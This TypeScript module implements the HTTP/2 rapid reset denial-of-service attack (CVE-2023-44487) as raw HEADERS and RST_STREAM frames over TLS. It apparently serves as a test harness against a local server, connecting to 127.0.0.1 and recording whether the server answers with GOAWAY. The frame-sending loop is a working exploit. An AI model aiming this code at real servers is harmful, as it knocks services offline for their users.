import * as tls from 'node:tls';
import { FRAME, frame, frameReader, PREFACE } from './h2-frames.ts';

/**
 * The HTTP/2 rapid reset attack (CVE-2023-44487) as raw frames over TLS (ALPN h2): the
 * connection preface and an empty SETTINGS, then `pairs` times HEADERS (a GET, END_STREAM |
 * END_HEADERS) immediately followed by RST_STREAM(CANCEL) on the same new stream, written in
 * batches as fast as the socket takes them — what the 2023 botnets did. node's own client
 * cannot do this: nghttp2 drops a request's HEADERS that are still queued when it is reset.
 * Stops writing at the server's GOAWAY and resolves when the server closes the connection.
 */
export interface RapidResetOutcome {
  /** Pairs written before the server's GOAWAY (or its close). */
  sent: number;
  /** The server's GOAWAY, if it sent one. */
  goaway: { errorCode: number; lastStreamId: number } | null;
}

const NGHTTP2_CANCEL = 0x8;
const BATCH = 50;

/** HPACK: indexed :method GET (2), :scheme https (7); :authority (1) and :path (4) literal without indexing. */
function requestBlock(authority: string, path: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x82, 0x87]),
    Buffer.from([0x01, authority.length]),
    Buffer.from(authority, 'latin1'),
    Buffer.from([0x04, path.length]),
    Buffer.from(path, 'latin1'),
  ]);
}

export function rapidReset(port: number, tlsOptions: tls.ConnectionOptions, pairs: number, opts: { authority?: string; path?: string } = {}): Promise<RapidResetOutcome> {
  const block = requestBlock(opts.authority ?? 'orders.shop.svc.cluster.local:8080', opts.path ?? '/orders');
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(NGHTTP2_CANCEL, 0);
  return new Promise((resolve, reject) => {
    const socket = tls.connect({ ...tlsOptions, host: '127.0.0.1', port, ALPNProtocols: ['h2'] });
    let sent = 0;
    let goaway: RapidResetOutcome['goaway'] = null;
    let closed = false;
    const writeBatch = (): void => {
      if (closed || goaway !== null || sent >= pairs) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < BATCH && sent < pairs; i++, sent++) {
        const id = 2 * sent + 1;
        frames.push(frame(0x1, 0x5, id, block), frame(0x3, 0, id, rst));
      }
      socket.write(Buffer.concat(frames), () => setImmediate(writeBatch));
    };
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') return reject(new Error(`ALPN ${String(socket.alpnProtocol)}, not h2`));
      socket.write(Buffer.concat([PREFACE, frame(0x4, 0, 0, Buffer.alloc(0))]));
      writeBatch();
    });
    socket.on(
      'data',
      frameReader(
        (bytes) => {
          if (!socket.destroyed) socket.write(bytes);
        },
        ({ type, payload }) => {
          if (type === FRAME.GOAWAY && goaway === null) goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, errorCode: payload.readUInt32BE(4) };
        },
      ),
    );
    socket.on('error', () => {
      // A reset by the server after its GOAWAY is the expected end.
    });
    socket.once('close', () => {
      closed = true;
      resolve({ sent, goaway });
    });
  });
}
